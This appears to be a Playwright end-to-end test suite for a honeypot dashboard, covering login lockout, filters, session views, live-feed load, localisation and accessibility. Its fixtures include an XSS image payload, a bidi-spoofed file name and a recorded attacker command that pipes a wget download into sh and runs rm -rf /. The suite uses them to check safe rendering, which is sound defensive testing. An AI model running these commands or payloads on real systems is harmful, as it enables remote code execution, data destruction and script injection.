import assert from 'node:assert/strict'
import { existsSync, rmSync } from 'node:fs'
import { after, afterEach, before, describe, it } from 'node:test'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { type Recorder, recorder } from '#events/event.ts'
import { uuid7 } from '#events/uuid7.ts'
import { createAttackers, type Row } from '#hive/testing.ts'
import {
  buildPage,
  logIn,
  openPage,
  type Sins,
  settled,
  startBrowser,
  startHive,
  type TestHive,
  until,
} from './page.ts'

const chromium = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync)
const HOUR = 3_600_000
const place = { country: 'JP', city: 'Osaka', lat: 34.69, lon: 135.5, asn: 64496, network: 'Example Net West' }

/** One session of a service, told by `tell`, a second a step. */
function session(service: string, ip: string, at: number, tell: (record: Recorder, step: () => void) => void) {
  const rows: Row[] = []
  let now = at
  const who = {
    session: uuid7(at),
    service,
    source: { ip, port: 40_000 },
    destination: { ip: '203.0.113.250', port: 22 },
    transport: 'tcp' as const,
  }
  const step = () => {
    now += 1000
  }
  tell(recorder(who, { sensor: 'skep-test', sink: event => void rows.push({ event, place }), now: () => now }), step)
  return { id: who.session, rows }
}

const past = (count: number): Row[] => {
  const attack = createAttackers(3)
  const start = Date.now() - 20 * HOUR
  return Array.from({ length: count }, (_, n) => attack(start + (n * 18 * HOUR) / count)).flat()
}

const image = '<img src=x onerror="window.hacked=1">'
const turned = 'user\u202egnp.exe'
const long = 'A'.repeat(4096)
const hostile = session('ssh', '192.0.2.66', Date.now() - 2 * HOUR, (record, step) => {
  record.connectionOpened({})
  step()
  record.sshHello({ version: `SSH-2.0-${image}`, hassh: image, algorithms: { kex: [image] } })
  step()
  record.login({ method: 'password', user: turned, password: long, outcome: 'failure' })
  record.login({ method: 'password', user: image, password: `${image}\u0000\u001b[31m`, outcome: 'success' })
  step()
  record.command({ line: `wget http://198.51.100.7/${image}\u2066 -O- | sh\nrm -rf /` })
  step()
  record.connectionClosed({ reason: 'eof', milliseconds: 4000, received: 1200, sent: 3400 })
})

describe('the page', { skip: chromium ? false : 'no Chromium here: apt-get install chromium' }, () => {
  let browser: Browser
  let built: string
  let hive: TestHive
  const opened: { sins: Sins; close: () => Promise<void> }[] = []

  before(async () => {
    built = await buildPage()
    browser = await startBrowser(chromium!)
    hive = await startHive(built, [...past(400), ...hostile.rows])
  })
  after(async () => {
    await browser?.close()
    await hive?.close()
    if (built) rmSync(built, { recursive: true, force: true })
  })
  // Whatever a test did with its pages, they asked nobody else, kept to the policy and threw nothing.
  afterEach(async () => {
    for (const { sins, close } of opened.splice(0)) {
      await close()
      assert.deepEqual(sins, { foreign: [], policy: [], thrown: [] })
    }
  })
  const open = async (path: string, options: BrowserContextOptions & { user?: string; on?: TestHive } = {}) => {
    const { user = 'admin', on = hive, ...context } = options
    const one = await openPage(browser, on, path, context)
    opened.push(one)
    await one.page.waitForSelector('#user')
    if (user) await logIn(one.page, user)
    return one.page
  }
  const bigNumbers = async (page: Page) => {
    await page.waitForSelector('.big')
    return (await page.locator('.big').allTextContents()).map(text => Number(text.replaceAll(',', '')))
  }

  it('refuses a wrong password, then tells how long to wait', async () => {
    const own = await startHive(built, [])
    try {
      const page = await open('/', { user: '', on: own })
      for (let n = 0; n < 3; n++) {
        await page.fill('#user', 'admin')
        await page.fill('#password', `wrong ${n}`)
        await page.keyboard.press('Enter')
        await page.getByText('User name or password is wrong.').waitFor()
      }
      for (let n = 0; n < 3; n++) {
        await page.fill('#password', 'wrong')
        await page.keyboard.press('Enter')
        await until(page, () => !document.querySelector<HTMLButtonElement>('.login button')!.disabled)
      }
      await page.getByText(/Too many attempts\. Try again in \d+s/).waitFor()
    } finally {
      await own.close()
    }
  })

  it('shows what the store knows', async () => {
    const page = await open('/')
    const filter = { from: Date.now() - 24 * HOUR }
    const [events, sources] = await bigNumbers(page)
    assert.equal(events, await hive.store.count(filter))
    assert.equal(sources, await hive.store.distinct('source_ip', filter))
    const lists = page.locator('.grid.lists .panel')
    for (const [title, field] of [
      ['User names', 'user'],
      ['Services', 'service'],
      ['Networks', 'network'],
    ] as const) {
      const [most] = await hive.store.top([field], filter, 1)
      const row = lists
        .filter({ has: page.getByRole('heading', { name: title, exact: true }) })
        .locator('li')
        .first()
      assert.equal(await row.locator('.value > a').first().textContent(), most!.values[0])
      assert.equal(await row.locator('.bar-count').textContent(), most!.count.toLocaleString('en-GB'))
    }
    assert.match((await page.locator('canvas[role=img]').getAttribute('aria-label'))!, /Most events: .*Japan \d/)
    await page.locator('.plot canvas').waitFor()
    assert.match(
      (await page.locator('.plot').getAttribute('aria-label'))!,
      new RegExp(`Chart of ${events!.toLocaleString('en-GB')} events`),
    )
  })

  it('keeps a clicked filter in the address, through a reload and on other pages', async () => {
    const page = await open('/')
    const services = page.locator('.panel[aria-label=Services]')
    await services.getByRole('link', { name: 'telnet', exact: true }).click()
    await page.waitForURL('**/?service=telnet')
    await page.reload()
    await page.locator('.chip').getByText('telnet').waitFor()
    const expected = await hive.store.count({
      from: Date.now() - 24 * HOUR,
      where: [{ field: 'service', values: ['telnet'] }],
    })
    await until(page, count => document.querySelector('.big')?.textContent === count, expected.toLocaleString('en-GB'))
    await page.getByRole('link', { name: 'Events', exact: true }).click()
    await page.waitForURL('**/events?service=telnet')
    await page.getByText(`${expected.toLocaleString('en-GB')} events`).waitFor()
    await page.getByTitle('Remove this filter').click()
    await page.waitForURL('**/events')
  })

  it('excludes a value, and the exclusion can be seen and taken back', async () => {
    const page = await open('/')
    await page.locator('.panel[aria-label=Services] li').first().hover()
    await page.getByTitle('Without ssh', { exact: true }).click()
    await page.waitForURL('**/?service%21=ssh')
    const list = page.locator('.panel[aria-label=Services] .bar-label')
    await settled(page, '.stale')
    assert.ok(!(await list.allTextContents()).some(text => text.startsWith('ssh')))
    await page.goBack()
    await page.getByTitle('Without ssh', { exact: true }).first().waitFor({ state: 'attached' })
  })

  it('pages through events and opens one as JSON', async () => {
    const page = await open('/events')
    const firstTime = () => page.locator('tbody tr:first-child time').getAttribute('datetime')
    await page.locator('tbody tr').first().waitFor()
    assert.equal(await page.locator('tbody tr').count(), 100)
    const newest = await firstTime()
    await page.getByRole('button', { name: /Older/ }).click()
    await page.getByText('Page 2').waitFor()
    await settled(page, '.stale')
    assert.ok((await firstTime())! < newest!)
    await page.locator('tbody button', { hasText: 'JSON' }).first().click()
    assert.match((await page.locator('.json pre').textContent())!, /"@timestamp"/)
  })

  it('tells the story of a session in order, with what it means', async () => {
    const page = await open(`/sessions/${hostile.id}`)
    await page.locator('.step').first().waitFor()
    const titles = await page.locator('.step h3').allTextContents()
    const logins = ['Log-in attempt', 'Log-in attempt']
    assert.deepEqual(titles, ['Connection opened', 'SSH client hello', ...logins, 'Command', 'Connection closed'])
    assert.deepEqual(
      await page.locator('.step-time').allTextContents(),
      [0, 1, 2, 2, 3, 4].map(second => `+${second}.00 s`),
    )
    const meaning = (await page.locator('.meaning').textContent())!
    assert.match(meaning, /Fetches a program/)
    assert.match(meaning, /Deletes files/)
    await page.getByRole('link', { name: 'Everything from this address' }).click()
    await page.getByRole('heading', { name: '192.0.2.66' }).waitFor()
    await page.locator('.lanes .mark').first().waitFor()
  })

  it('renders what attackers wrote so that it does nothing', async () => {
    const page = await open('/events?source_ip=192.0.2.66')
    const search = '?source_ip=192.0.2.66'
    for (const path of [
      `/events${search}`,
      `/${search}`,
      `/sessions/${hostile.id}`,
      '/sources/192.0.2.66',
      `/sessions${search}`,
    ]) {
      await page.goto(hive.origin + path)
      await page.waitForSelector('h1')
      await settled(page, '.stale')
      assert.equal(await page.locator('img').count(), 0, path)
      assert.equal(await page.evaluate(() => 'hacked' in window), false, path)
      const text = await page.evaluate(() => document.body.innerText)
      // Neither in sight nor in a tooltip does a direction mark or an escape survive.
      const titles = await page.evaluate(() =>
        [...document.querySelectorAll('[title]')].map(e => e.getAttribute('title')).join(' '),
      )
      assert.doesNotMatch(text + titles + (await page.title()), /[\u202a-\u202e\u2066-\u2069\u0000\u001b]/, path)
      assert.ok(text.length < 30_000, `${path}: a long password is cut`)
    }
    await page.goto(`${hive.origin}/`)
    await page.getByText('Live', { exact: true }).waitFor()
    await hive.arrive(
      session('telnet', '192.0.2.67', Date.now(), record => record.command({ line: `${image}\u202e` })).rows,
    )
    await page.locator('.feed-rows').getByText(`${image}U+202E`).waitFor()
    assert.equal(await page.locator('img').count(), 0)
    await page.goto(`${hive.origin}/sessions/${hostile.id}`)
    await page.getByText(image).first().waitFor()
    assert.deepEqual(await page.locator('.ctl').allTextContents(), ['U+202E', '␀', '␛', 'U+2066'])
    const more = page.getByRole('button', { name: /\+[\d,]+ characters/ })
    assert.equal(await more.count(), 0, 'a value to filter by opens in its JSON, not inside a link')
  })

  it('stays responsive while a thousand events a second come in', async () => {
    const page = await open('/')
    const [before] = await bigNumbers(page)
    const attack = createAttackers(11)
    await page.evaluate(() => {
      const counted = window as unknown as { frames: number; changes: number }
      counted.frames = 0
      counted.changes = 0
      const frame = () => {
        counted.frames++
        requestAnimationFrame(frame)
      }
      requestAnimationFrame(frame)
      new MutationObserver(() => counted.changes++).observe(document.querySelector('.feed-rows')!, { childList: true })
    })
    let sent = 0
    for (let tick = 0; tick < 16; tick++) {
      const batch: Row[] = []
      while (batch.length < 250) batch.push(...attack(Date.now()))
      sent += batch.length
      await hive.arrive(batch)
      await new Promise(resolve => setTimeout(resolve, 250))
    }
    const { frames, changes } = await page.evaluate(() => {
      const { frames, changes } = window as unknown as { frames: number; changes: number }
      return { frames, changes }
    })
    assert.ok(sent >= 4000)
    assert.ok(frames > 40, `${frames} frames in four seconds`)
    assert.ok(changes > 3, `the feed moved ${changes} times`)
    assert.ok((await page.locator('.feed-rows li').count()) <= 60)
    await until(
      page,
      count => Number(document.querySelector('.big')!.textContent!.replaceAll(',', '')) >= count,
      before! + sent,
    )
    await page.getByRole('button', { name: 'Pause' }).click()
    const newest = page.locator('.feed-rows li').first()
    const held = await newest.textContent()
    await hive.arrive(attack(Date.now()))
    await page.getByText(/Paused · [\d,]+ new/).waitFor()
    assert.equal(await newest.textContent(), held)
    await page.getByRole('button', { name: 'Resume' }).click()
    await until(page, text => document.querySelector('.feed-rows li')!.textContent !== text, held)
  })

  it('says when the hive is gone, and catches up when it is back', async () => {
    const own = await startHive(built, past(5))
    const page = await open('/', { on: own })
    await page.getByText('Live', { exact: true }).waitFor()
    await bigNumbers(page)
    await own.close()
    await page.getByText('The hive does not answer.').first().waitFor()
    assert.ok((await bigNumbers(page))[0]! > 0, 'the numbers from before are still there')
    const again = await startHive(built, past(5), own.port)
    try {
      // The new hive knows no session of the old one: back to the log-in, at the same address.
      await page.locator('#user').waitFor({ timeout: 40_000 })
      await logIn(page)
      await page.getByText('Live', { exact: true }).waitFor()
    } finally {
      await again.close()
    }
  })

  it('speaks Japanese and English, by day and by night, and remembers', async () => {
    const page = await open('/', { locale: 'ja-JP', colorScheme: 'dark' })
    await page.getByRole('heading', { name: '概要' }).waitFor()
    const shown = () => page.evaluate(() => [document.documentElement.lang, document.documentElement.dataset.theme])
    assert.deepEqual(await shown(), ['ja', 'dark'])
    await page.locator('.country', { hasText: '日本' }).first().waitFor()
    await page.locator('.account summary').click()
    await page.getByLabel('言語').selectOption('en')
    await page.getByLabel('Colours').selectOption('light')
    await page.getByRole('heading', { name: 'Overview' }).waitFor()
    await page.reload()
    await page.getByRole('heading', { name: 'Overview' }).waitFor()
    assert.deepEqual(await shown(), ['en', 'light'])
    for (const path of [
      '/',
      '/events',
      '/sessions',
      `/sessions/${hostile.id}`,
      '/sources/192.0.2.66',
      '/services',
      '/samples',
      '/sql',
      '/about',
    ]) {
      await page.goto(hive.origin + path)
      await page.waitForSelector('h1')
      await page.keyboard.press('l')
      await until(page, () => document.documentElement.lang === 'ja')
      await settled(page)
      const text = await page.evaluate(() => document.body.innerText)
      assert.doesNotMatch(text, /undefined|NaN|\[object|Invalid Date/, path)
      await page.keyboard.press('l')
      await until(page, () => document.documentElement.lang === 'en')
    }
  })

  it('fits a phone', async () => {
    const page = await open('/', { viewport: { width: 390, height: 844 }, hasTouch: true })
    for (const path of [
      '/',
      '/events',
      '/sessions',
      `/sessions/${hostile.id}`,
      '/sources/192.0.2.66',
      '/services',
      '/samples',
      '/sql',
      '/about',
      '/?user=root&password!=x&country=JP&text=wget',
    ]) {
      await page.goto(hive.origin + path)
      await page.waitForSelector('h1')
      await settled(page)
      const [content, width] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth])
      assert.equal(content, width, path)
    }
    await page.getByText('More', { exact: true }).click()
    await page.locator('.narrow .sheet').getByText('About').click()
    await page.waitForURL('**/about?*')
  })

  it('can be used with the keyboard alone', async () => {
    const page = await open('/', { user: '' })
    await page.keyboard.type('admin')
    await page.keyboard.press('Tab')
    await page.keyboard.type('admin')
    await page.keyboard.press('Enter')
    await page.waitForSelector('.top')
    await page.keyboard.press('Tab')
    const focused = () => page.evaluate(() => document.activeElement?.textContent)
    assert.equal(await focused(), 'Skip to the content')
    await page.keyboard.press('Enter')
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'main')
    await page.keyboard.press('g')
    await page.keyboard.press('e')
    await page.waitForURL('**/events')
    await until(page, () => document.activeElement?.textContent === 'Events')
    await page.locator('tbody tr').first().waitFor()
    await page.keyboard.press('/')
    await page.keyboard.type('uname')
    await page.keyboard.press('Enter')
    await page.waitForURL('**/events?text=uname')
    await page.locator('h1').focus()
    await page.keyboard.press('?')
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor()
    await page.keyboard.press('Escape')
    await until(page, () => !document.querySelector('dialog'))
    await page.keyboard.press('Tab')
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle)
    assert.equal(outline, 'solid')
  })

  it('shows what is down and why, and what came last', async () => {
    const page = await open('/services')
    const row = page.locator('tr', { hasText: 'https' })
    await row.getByText('Port 443 is taken by nginx (pid 812)').waitFor()
    await page.getByText('5 of 6 listening').waitFor()
    assert.equal(await page.locator('.comb li.down').count(), 1)
  })

  it('lets only an admin ask in SQL', async () => {
    const admin = await open('/sql')
    await admin.getByRole('button', { name: 'Run' }).click()
    await admin.getByText(/^\d+ rows/).waitFor()
    const viewer = await open('/', { user: 'viewer' })
    await viewer.waitForSelector('.big')
    assert.equal(await viewer.getByRole('link', { name: 'SQL' }).count(), 0)
  })

  it('tells newcomers how to try when nothing has come yet, and shows the first that comes', async () => {
    const own = await startHive(built, [])
    try {
      const page = await open('/', { on: own })
      await page.getByText('Nothing has come yet').waitFor()
      await page.getByText('ssh -p 22 root@YOUR-SERVER').waitFor()
      await own.arrive(createAttackers(5)(Date.now()))
      await page.locator('.plot canvas').waitFor()
    } finally {
      await own.close()
    }
  })
})
